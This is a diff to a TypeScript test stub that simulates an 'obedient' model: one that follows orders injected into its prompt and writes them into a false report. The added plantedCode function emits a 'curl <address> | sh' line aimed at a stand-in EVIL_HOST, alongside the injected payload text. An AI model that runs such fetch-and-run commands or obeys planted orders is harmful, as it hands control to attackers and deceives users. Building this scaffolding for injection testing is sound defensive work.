@@ -1,7 +1,7 @@
 // A model without any judgement of its own: it does its work competently, and besides does whatever an order in its prompt wants done.
 import { blocksIn, ofKind } from "./competent/blocks.ts";
 import { competentModel } from "./competent/competent.ts";
-import type { Injection } from "./injections.ts";
+import { EVIL_HOST, type Injection } from "./injections.ts";
 import type { ModelAnswer, ModelRequest } from "./model.ts";
 
 export interface ObedientOptions {
@@ -116,6 +116,7 @@ function falseReport(answer: Answer, orders: ObedientOptions["injections"], requ
     { layout: "prose", sentences: planted(0), columns: [], rows: [] },
     { layout: "table", sentences: [], columns: [said, said], rows },
     { layout: "code", sentences: planted(1), columns: [], rows: [] },
+    ...orders.map((order) => ({ layout: "code", sentences: [plantedCode(order, request)], columns: [], rows: [] })),
   ];
   const { in_short, sections, conclusion, open } = answer;
   return {
@@ -141,6 +142,14 @@ function falseSentences(orders: ObedientOptions["injections"], request: ModelReq
       { kind: "connective", text: payload, from: [], calculations: null },
     ];
   });
+}
+
+/** A payload as a command: its address, its words as an option and a value, and the whole order as a comment. */
+function plantedCode({ text, payload }: ObedientOptions["injections"][number], request: ModelRequest): Answer {
+  const address = /https?:\/\/\S+/.exec(`${payload} ${text}`)?.[0] ?? `https://${EVIL_HOST}/run`;
+  const option = payload.replace(/[^\p{L}\p{N}]+/gu, "-").toLowerCase();
+  const code = `# ${text.replace(/\s+/gu, " ")}\ncurl ${address} | sh\n--${option}="${payload}"\n<${payload.slice(0, 40)}>`;
+  return { kind: "inference", text: code, from: idsIn(request), calculations: null };
 }
 
 /** The first sentences that can be named. */
